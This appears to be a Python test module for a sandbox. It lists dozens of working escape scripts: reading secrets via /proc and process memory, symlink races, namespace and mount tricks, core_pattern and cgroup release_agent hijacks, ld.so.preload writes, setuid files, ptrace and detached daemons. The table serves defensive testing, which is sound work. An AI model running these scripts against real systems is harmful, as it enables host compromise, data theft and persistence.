# ruff: noqa: E501 - scripts are read more easily unbroken
"""The table of attacks: a name, the harm it would do, and a Python script that tries.

Scripts see the facts of the world as variables, and what ``PRELUDE`` defines. An attack that fails
raises, which is of no interest: harm is looked for from outside.

The reach of every attack is what the test made itself: its files, its victim, its sockets. None may
address everybody (``PRIO_USER``, ``kill(-1)``) or show what belongs to other processes, since where
it succeeds it does so to the machine that runs the tests. ``control=False`` marks those whose
success would last, such as a mount or a setting of the kernel.
"""

from collections.abc import Mapping, Sequence

from msgspec import Struct

from tests.integration.sandbox.escapes.world import Harm

PRELUDE = """
import array, ctypes, fcntl, glob, mmap, os, shutil, signal, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def show(path):
    with open(path, 'rb') as f: print(f.read(100_000), flush=True)
def write(path, text='pwned', mode='w'):
    with open(path, mode) as f: f.write(text)
def sure(result):
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def each(*tries):
    for one in tries:
        try: one()
        except Exception as error: print(type(error).__name__, flush=True)
def claim(): print('CLAIM-' + marker, flush=True)
def mount(source, target, kind=None, flags=0, data=None):
    e = lambda x: x.encode() if x else None
    sure(libc.mount(e(source), e(target), e(kind), flags, e(data)))
def connect(address, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0):
    s = socket.socket(family, kind, protocol); s.settimeout(2); s.connect(address); s.send(b'hello')
def send(address, family=socket.AF_INET):
    socket.socket(family, socket.SOCK_DGRAM).sendto(b'hello', address)
def exchange(a, b): libc.renameat2(-100, a.encode(), -100, b.encode(), 2)
def stay(*options, **settings):
    # Something that sleeps for long and carries the marker.
    return subprocess.Popen(['sleep', marker], **settings)
NEWNS, NEWUSER, NEWNET, BIND, REMOUNT, RDONLY = 0x20000, 0x10000000, 0x40000000, 4096, 32, 1
"""


class Attack(Struct, frozen=True):
    """One attempt, and what harm it would do where nothing confines it."""

    name: str
    harm: Harm
    script: str
    control: bool = True
    """Whether it may be tried without confinement, to show that the harm is noticed."""

    def source(self, facts: Mapping[str, object]) -> str:
        """The whole script."""
        known = "\n".join(f"{name} = {value!r}" for name, value in facts.items())
        return f"{known}\n{PRELUDE}\n{self.script}"


ONE_BY_ONE = """
for number, script in enumerate(scripts):
    pid = os.fork()
    if pid == 0:
        try:
            os.mkdir(str(number)); os.chdir(str(number)); exec(script, globals())
        except BaseException as error: print(type(error).__name__, error)
        finally: sys.stdout.flush(); os._exit(0)
    os.waitpid(pid, 0)
print('all were tried')
"""


def together(attacks: Sequence[Attack], facts: Mapping[str, object]) -> str:
    """A script that makes many attempts in one run, each in a process and a folder of its own."""
    known = {**facts, "scripts": [attack.script for attack in attacks]}
    return Attack("together", Harm.READ, ONE_BY_ONE).source(known)


def _table(harm: Harm, scripts: Mapping[str, str], *, control: bool = True) -> tuple[Attack, ...]:
    return tuple(Attack(name, harm, script, control) for name, script in scripts.items())


MEMORY_OF_VICTIM = """
stack = [l.split()[0].split('-') for l in open(f'/proc/{victim}/maps') if '[stack]' in l][0]
low, high = (int(part, 16) for part in stack)
"""

READING = _table(
    Harm.READ,
    {
        "read an absolute path": "show(secret)",
        "read by dots": "show(os.path.relpath(secret))",
        "read through a link": "os.symlink(secret, 'l'); show('l')",
        "read through a linked folder": "os.symlink(outside, 'd'); show('d/secret')",
        "read by /proc/self/root": "show('/proc/self/root' + secret)",
        "read by /proc/self/cwd": "show('/proc/self/cwd/' + os.path.relpath(secret))",
        "read by the root of a process": "show(f'/proc/{victim}/root{secret}')",
        "read by the folder of a process": "show(f'/proc/{victim}/cwd/secret')",
        "read what a process has open": "show(f'/proc/{victim}/fd/0')",
        "read a process's variables": "show(f'/proc/{victim}/environ')",
        "read by the parent's root": "show(f'/proc/{os.getppid()}/root{secret}')",
        "read through a hard link": "os.link(secret, 'h'); show('h')",
        "read by moving it in": "os.rename(secret, 'r'); show('r')",
        "read by reopening a bare descriptor": (
            "show(f'/proc/self/fd/{os.open(secret, os.O_PATH)}')"
        ),
        "read by a handle": """
h = ctypes.create_string_buffer(struct.pack('Ii', 120, 0) + bytes(120)); m = ctypes.c_int()
sure(libc.name_to_handle_at(-100, secret.encode(), h, ctypes.byref(m), 0))
root = os.open('/', os.O_RDONLY | os.O_DIRECTORY) if os.access('/', os.R_OK) else os.open('.', 0)
print(os.read(sure(libc.open_by_handle_at(root, h, 0)), 100))""",
        "read shared files": "show(shared)",
        "list and read shared files": (
            "each(*(lambda p=p: show(p) for p in glob.glob(f'/dev/shm/{marker}*')))"
        ),
        "read shared memory": """
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(sure(libc.shmget(key, 4096, 0)), None, 0); print(ctypes.string_at(at, 100))""",
        "read the memory file of a process": MEMORY_OF_VICTIM
        + "f = open(f'/proc/{victim}/mem', 'rb', 0); f.seek(low); print(f.read(high - low))",
        "read the memory of a process": MEMORY_OF_VICTIM
        + """
b = ctypes.create_string_buffer(high - low)
local = struct.pack('PN', ctypes.addressof(b), high - low); far = struct.pack('PN', low, high - low)
sure(libc.process_vm_readv(victim, local, 1, far, 1, 0)); print(b.raw)""",
        "take a descriptor from a process": """
f = sure(libc.syscall(438, sure(libc.syscall(434, victim, 0)), 0, 0)); print(os.pread(f, 100, 0))""",
        "mount in a namespace of its own and read": """
sure(libc.unshare(NEWUSER | NEWNS)); os.mkdir('m')
mount(outside, 'm', None, BIND); show('m/secret')""",
        "mount with the new calls and read": """
t = sure(libc.syscall(428, -100, outside.encode(), 1)); print(open(f'/proc/self/fd/{t}/secret').read())
""",
        "climb out of a new root": """
os.mkdir('c'); os.chroot('c')
for _ in range(30): os.chdir('..')
os.chroot('.'); show(secret)""",
        "enter the namespaces of a process": """
f = os.open(f'/proc/{victim}/ns/mnt', 0); sure(libc.setns(f, 0)); show(secret)""",
        "read with programs that have rights": """
each(lambda: subprocess.run(['sudo', '-n', 'cat', secret]),
     lambda: subprocess.run(['su', '-c', 'cat ' + secret], stdin=subprocess.DEVNULL, timeout=3),
     lambda: subprocess.run(['chroot', '/', 'cat', secret]),
     lambda: subprocess.run(['unshare', '-Urm', 'cat', secret]),
     lambda: subprocess.run(['nsenter', '-t', str(victim), '-m', 'cat', secret]))""",
        "swap links while reading": """
os.mkdir('a'); write('a/secret', 'mine'); os.symlink(outside, 'b')
pid = os.fork()
while pid == 0: exchange('a', 'b')
end = time.time() + .8
while time.time() < end:
    try: text = open('a/secret').read()
    except OSError: continue
    if text != 'mine': print(text, flush=True)
os.kill(pid, 9)""",
    },
) + _table(
    Harm.READ,
    {
        "read by /proc/1/root": "show('/proc/1/root' + secret)",
        "read inherited descriptors": """
each(*(lambda n=n: print(os.pread(n, 1000, 0)) for n in range(3, 200)))""",
        "read inherited variables": "print(dict(os.environ))",
        "mount the folder and read": "os.mkdir('m'); mount(outside, 'm', None, BIND); show('m/secret')",
        "read the disk by a device of its own": """
os.mknod('disk', 0o600 | 0o060000, device); f = open('disk', 'rb'); f.seek(1024)
print(f.read(256).hex())""",
        "read the disk by its device": """
f = open(f'/dev/block/{os.major(device)}:{os.minor(device)}', 'rb'); f.seek(1024)
print(f.read(256).hex())""",
        "read as another user": "os.setgid(12); os.setuid(13); show(secret)",
        "read the variables of all": """
for name in glob.glob('/proc/[0-9]*/environ'):
    # Shows the victim's only: those of others are nobody's business, also if this works.
    each(lambda: print([v for v in open(name, 'rb').read().split(bytes(1)) if marker.encode() in v]))""",
    },
    control=False,
)

CHANGING = _table(
    Harm.CHANGED,
    {
        "write an absolute path": "write(file)",
        "write by dots": "write(os.path.relpath(file))",
        "append": "write(file, mode='a')",
        "write through a link": "os.symlink(file, 'l'); write('l')",
        "write through /proc/self/root": "write('/proc/self/root' + file)",
        "write by the folder of a process": "write(f'/proc/{victim}/cwd/file')",
        "write by reopening a bare descriptor": (
            "write(f'/proc/self/fd/{os.open(file, os.O_PATH)}')"
        ),
        "truncate": "os.truncate(file, 0)",
        "delete": "os.unlink(file)",
        "put another in its place": "write('mine'); os.replace('mine', file)",
        "make a file": "write(outside + '/new')",
        "make a folder": "os.mkdir(outside + '/new')",
        "make a link": "os.symlink('x', outside + '/new')",
        "make a hard link": "write('mine'); os.link('mine', outside + '/new')",
        "remove a folder": "os.rmdir(outside + '/folder')",
        "change the mode": "os.chmod(file, 0o777)",
        "change the mode through a link": "os.symlink(file, 'l'); os.chmod('l', 0o777)",
        "change the mode of what is only readable": (
            "f = os.open(readable + '/note', 0); os.fchmod(f, 0o777)"
        ),
        "change the mode by a descriptor's name": (
            "f = os.open(readable + '/note', 0); os.chmod(f'/proc/self/fd/{f}', 0o777)"
        ),
        "change the mode of a folder": "os.chmod(outside, 0o777)",
        "change the owner": "os.chown(file, 12, 12)",
        "change the owner of a link's target": "os.symlink(file, 'l'); os.chown('l', 12, 12)",
        "change the times": "os.utime(file, (1, 1))",
        "change the times by a descriptor": (
            "f = os.open(readable + '/note', 0); os.utime(f, (1, 1))"
        ),
        "add an attribute": "os.setxattr(file, 'user.pwned', b'1')",
        "add an attribute to what is only readable": (
            "f = os.open(readable + '/note', 0); os.setxattr(f, 'user.pwned', b'1')"
        ),
        "write what is only readable": "write(readable + '/note')",
        "delete what is only readable": "os.unlink(readable + '/note')",
        "add to what is only readable": "write(readable + '/new')",
        "mount writable what is only readable": """
each(lambda: mount('none', readable, None, REMOUNT | BIND))
write(readable + '/note')""",
        "mount in a namespace of its own and write": """
sure(libc.unshare(NEWUSER | NEWNS)); os.mkdir('m')
mount(outside, 'm', None, BIND); write('m/file')""",
        "swap links while writing, 20,000 times": """
os.mkdir('a'); os.symlink(outside, 'b')
pid = os.fork()
while pid == 0: exchange('a', 'b')
for n in range(20_000):
    try: os.close(os.open('a/file', os.O_WRONLY | os.O_CREAT | os.O_TRUNC))
    except OSError: pass
os.kill(pid, 9)""",
        "swap links while changing modes": """
write('mine'); os.symlink(file, 'b'); os.link('mine', 'a')
pid = os.fork()
while pid == 0: exchange('a', 'b')
for n in range(4_000):
    try: os.chmod('a', 0o777)
    except OSError: pass
os.kill(pid, 9)""",
        "write to a terminal": "f = os.open(terminal, os.O_RDWR | os.O_NOCTTY); os.write(f, b'pwned')",
        "make a message queue": "sure(libc.msgget(key, 0o1666))",
        "remove a message queue of POSIX": "sure(libc.mq_unlink(f'/{marker}-queue'.encode()))",
    },
) + _table(
    Harm.CHANGED,
    {
        "mount the folder and write": "os.mkdir('m'); mount(outside, 'm', None, BIND); write('m/file')",
        "type into terminals": """
for name in (0, 1, 2, '/dev/tty', '/dev/console', terminal):
    each(lambda: [fcntl.ioctl(name if type(name) is int else os.open(name, os.O_RDWR), 0x5412, bytes([c]))
                  for c in b'pwned'])""",
        "change settings of the kernel": """
each(lambda: write('/proc/sys/vm/swappiness', '61'),
     lambda: write('/proc/self/root/proc/sys/vm/swappiness', '61'),
     lambda: write('/sys/kernel/mm/ksm/pages_to_scan', '101'))""",
        "catch crashes of the host": "write('/proc/sys/kernel/core_pattern', '|' + work + '/x')",
        "mount the kernel's settings and write": """
sure(libc.unshare(NEWUSER | NEWNS)); os.mkdir('p'); mount('proc', 'p', 'proc')
write('p/sys/vm/swappiness', '61')""",
        "change the host's name": """
each(lambda: socket.sethostname('pwned'), lambda: write('/proc/sys/kernel/hostname', 'pwned'))""",
        "change the host's domain": """
each(lambda: sure(libc.setdomainname(b'pwned', 5)),
     lambda: write('/proc/sys/kernel/domainname', 'pwned'))""",
        "make a control group": "os.mkdir('/sys/fs/cgroup/' + marker)",
        "be told of a control group's end": """
os.mkdir('g'); mount('cgroup', 'g', 'cgroup', 0, 'memory')
write('g/release_agent', '/bin/sh'); os.mkdir('g/' + marker); write(file)""",
        "load a library into programs of the host": "write('/etc/ld.so.preload', '', 'a')",
        "change programs of the system": "os.chmod('/usr/bin/env', 0o775); os.utime('/usr/bin/env')",
    },
    control=False,
)

CONTACTING = _table(
    Harm.CONTACTED,
    {
        "connect by TCP": "connect(('127.0.0.1', tcp))",
        "connect by TCP over IPv6": "connect(('::1', tcp6), socket.AF_INET6)",
        "connect by mapped addresses": "connect(('::ffff:127.0.0.1', tcp), socket.AF_INET6)",
        "connect by multipath TCP": "connect(('127.0.0.1', tcp), protocol=262)",
        "connect by sending": (
            "socket.socket().sendto(b'hello', 0x20000000, ('127.0.0.1', tcp)); time.sleep(.1)"
        ),
        "send a datagram": "send(('127.0.0.1', udp))",
        "send a datagram by a message": (
            "socket.socket(type=2).sendmsg([b'x'], [], 0, ('127.0.0.1', udp))"
        ),
        "send a packet of its own making": """
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s.sendto(struct.pack('!HHHH', 4, udp, 13, 0) + b'hello', ('127.0.0.1', 0)); time.sleep(.1)""",
        "ask a name server": """
s = socket.socket(type=2)
s.sendto(b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\0\\0\\1\\0\\1', ('127.0.0.1', udp))""",
        "connect with programs": """
subprocess.run(['bash', '-c', f'echo x > /dev/tcp/127.0.0.1/{tcp}; echo x > /dev/udp/127.0.0.1/{udp}'])
""",
        "connect to a unix socket": "connect(outside + '/stream', socket.AF_UNIX)",
        "connect to a unix socket by dots": "connect(os.path.relpath(outside + '/stream'), socket.AF_UNIX)",
        "connect to a unix socket through a link": (
            "os.symlink(outside + '/stream', 's'); connect('s', socket.AF_UNIX)"
        ),
        "connect to a unix socket by /proc": (
            "connect(f'/proc/{victim}/cwd/stream', socket.AF_UNIX)"
        ),
        "send to a unix socket": "send(outside + '/datagram', socket.AF_UNIX)",
        "connect to an abstract socket": "connect('\\0' + marker, socket.AF_UNIX)",
        "send to an abstract socket": "send('\\0' + marker + 'd', socket.AF_UNIX)",
        "swap links while connecting": """
server = socket.socket(socket.AF_UNIX); server.bind('mine'); server.listen(1000)
os.link('mine', 'a'); os.symlink(outside + '/stream', 'b')
pid = os.fork()
while pid == 0: exchange('a', 'b')
end = time.time() + .6
while time.time() < end:
    try: connect('a', socket.AF_UNIX)
    except OSError: pass
os.kill(pid, 9)""",
    },
)

TOUCHING = _table(
    Harm.VICTIM,
    {
        "kill a process": "os.kill(victim, 9)",
        "stop a process": "os.kill(victim, signal.SIGSTOP)",
        "kill a thread": "sure(libc.tgkill(victim, victim, 9))",
        "kill by a descriptor": "signal.pidfd_send_signal(os.pidfd_open(victim), 9)",
        "kill by input that is ready": """
a, b = socket.socketpair(); fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC)
fcntl.fcntl(a, 10, 9); fcntl.fcntl(a, fcntl.F_SETOWN, victim); b.send(b'x'); time.sleep(.1)""",
        "trace a process": """
sure(libc.ptrace(16, victim, None, None)); time.sleep(.2); os._exit(0) if os.fork() else 0
libc.ptrace(7, victim, None, 9); os.kill(victim, signal.SIGSTOP)""",
        "change a process's priority": "os.setpriority(os.PRIO_PROCESS, victim, 13)",
        "change the priority of a process's group": "os.setpriority(os.PRIO_PGRP, victim, 13)",
        "change a process's processors": "os.sched_setaffinity(victim, {0})",
        "change a process's limits": """
import resource
resource.prlimit(victim, resource.RLIMIT_NOFILE, (64, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
""",
    },
)

CLAIMING = _table(
    Harm.CLAIMED,
    {
        "set the clock": """
t = ctypes.create_string_buffer(16); sure(libc.clock_gettime(0, t))
sure(libc.clock_settime(0, t)); claim()""",
        "load a module": """
r = libc.syscall(175 if os.uname().machine == 'x86_64' else 105, b'no module', 9, b'')
ctypes.get_errno() == 1 or claim()""",
        "watch a process's events": """
a = ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0) + bytes(96))
sure(libc.syscall(298 if os.uname().machine == 'x86_64' else 241, a, victim, -1, -1, 0)); claim()""",
        "make a device": "os.mknod('mem', 0o600 | 0o020000, os.makedev(1, 1)); claim()",
        "read the kernel's memory": """
for name in ('/dev/mem', '/dev/kmem', '/dev/port', '/proc/kcore'):
    try: open(name, 'rb').read(1)
    except OSError: continue
    claim()""",
        "read the kernel's log": """
b = ctypes.create_string_buffer(4096); n = sure(libc.klogctl(3, b, 4096)); n and claim()""",
        "use a keyring": """
n = (248, 250) if os.uname().machine == 'x86_64' else (217, 219)
sure(libc.syscall(n[0], b'user', marker.encode(), b'x', 1, -4)); claim()
libc.syscall(n[1], 9, libc.syscall(n[1], 10, -4, b'user', marker.encode(), 0), -4)""",
    },
    control=False,
) + _table(
    Harm.CLAIMED,
    {
        "read the locks of others": """
for name in ('/proc/locks', '/proc/self/root/proc/locks', '/proc/self/../locks'):
    f':{inode} ' in open(name).read() and claim()""",
        "read the list of shared memory": "f' {key} ' in open('/proc/sysvipc/shm').read() and claim()",
        "read the list of shared memory by a descriptor": """
f = os.open('/proc', os.O_PATH)
f' {key} ' in os.fdopen(os.open('sysvipc/shm', 0, dir_fd=f)).read() and claim()""",
    },
)

STAYING = _table(
    Harm.LEFT,
    {
        "leave a program with its owner's rights": "write('s'); os.chmod('s', 0o4755)",
        "leave a program with its group's rights": (
            "write('s'); f = os.open('s', 0); os.fchmod(f, 0o2755)"
        ),
        "make a program with its owner's rights": (
            "os.umask(0); os.close(os.open('s', os.O_CREAT | os.O_WRONLY, 0o4755))"
        ),
        "make a program with its owner's rights by a structure": """
h = ctypes.create_string_buffer(struct.pack('QQQ', os.O_CREAT | os.O_WRONLY, 0o4755, 0))
os.umask(0); sure(libc.syscall(437, -100, b's', h, 24))""",
        "leave a message queue of POSIX": (
            "sure(libc.mq_open(f'/{marker}-left'.encode(), os.O_CREAT, 0o600, None))"
        ),
        "leave files in /dev/shm": "write('/dev/shm/' + marker + '-new')",
        "leave files in /tmp": "write('/tmp/' + marker); write('/tmp/' + marker + 'b', 'x' * 50_000_000)",
    },
)

DETACHING: Mapping[str, str] = {
    "in the background": "stay()",
    "in a session of its own": "stay(start_new_session=True)",
    "with nohup": "subprocess.Popen(['sh', '-c', f'nohup sleep {marker} >/dev/null 2>&1 &'])",
    "with setsid, twice": ("subprocess.run(['bash', '-c', f'(setsid setsid sleep {marker} &)'])"),
    "disowned by bash": ("subprocess.run(['bash', '-c', f'sleep {marker} & disown -a'])"),
    "as a daemon": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open('/dev/null', os.O_RDWR)
        for n in (0, 1, 2): os.dup2(null, n)
        os.closerange(3, 256); os.chdir('/'); signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(300)
    os._exit(0)""",
    "deaf to signals": """
for n in range(1, 32):
    each(lambda: signal.signal(n, signal.SIG_IGN))
stay(start_new_session=True)""",
    "by forking all the time": """
if os.fork() == 0:
    os.setsid()
    end = time.time() + 20
    while time.time() < end:
        try:
            if os.fork(): os._exit(0)
        except OSError: pass""",
}
"""How to outlive the run: each is tried with a normal exit and with a timeout."""

ATTACKS = (*READING, *CHANGING, *CONTACTING, *TOUCHING, *CLAIMING, *STAYING)
